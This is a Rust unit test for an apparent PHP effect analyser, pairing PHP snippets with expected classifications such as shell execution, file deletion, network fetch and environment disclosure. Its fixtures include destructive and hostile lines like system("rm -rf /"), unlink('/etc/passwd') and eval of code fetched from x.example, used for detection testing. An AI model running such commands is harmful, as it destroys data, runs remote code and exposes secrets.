use super::check;

#[test]
fn php() {
    check(
        "php",
        &[
            ("system(\"rm -rf /\");", "sh rm -rf /"),
            ("exec('ls');", "sh ls"),
            ("echo shell_exec('ls');", "sh ls"),
            ("passthru('ls');", "sh ls"),
            ("echo `rm -rf /`;", "sh rm -rf /"),
            ("$p = popen('ls', 'r');", "sh ls"),
            ("proc_open(['ls', '-l'], [], $pipes);", "run ls -l"),
            ("system(\"rm -rf $d\");", "execute Inline system(…); sh rm -rf ${_unknown_to_us}"),
            ("system('rm -rf ' . '/');", "sh rm -rf /"),
            ("$c = 'ls'; system($c);", "sh ls"),
            ("unlink('/etc/passwd');", "delete /etc/passwd"),
            ("rmdir(getenv('HOME'));", "delete /home/u"),
            ("unlink($_SERVER['HOME'] . '/x');", "delete /home/u/x"),
            ("array_map('unlink', glob('*.o'));", "delete *.o"),
            ("file_put_contents('a', 'x');", "write a Truncate"),
            ("echo file_get_contents('.env');", "read .env; harmless"),
            ("eval(file_get_contents('http://x.example/a'));", "network x.example; execute Fetched eval(…)"),
            ("print_r($_ENV);", "disclose environment"),
            ("rename('a', 'b');", "move a b"),
            ("fopen('a', 'w');", "write a Truncate"),
            ("<?php system('ls'); ?>", "sh ls"),
            ("// system('ls');\necho 1;", "harmless"),
            ("/* system('ls'); */ echo 1;", "harmless"),
            ("echo 'system(\"rm -rf /\");';", "harmless"),
            ("echo \"rm -rf /\";", "harmless"),
            ("echo <<<'X'\nsystem('ls');\nX;\necho 1;", "harmless"),
            ("echo json_encode(['a' => 1]);", "harmless"),
            ("foo();", ""),
            ("foreach (glob('*.log') as $f) { unlink($f); }", "delete *.log"),
            ("foreach (['a', 'b'] as $k => $v) unlink($v);", "delete a; delete b"),
        ],
    );
}
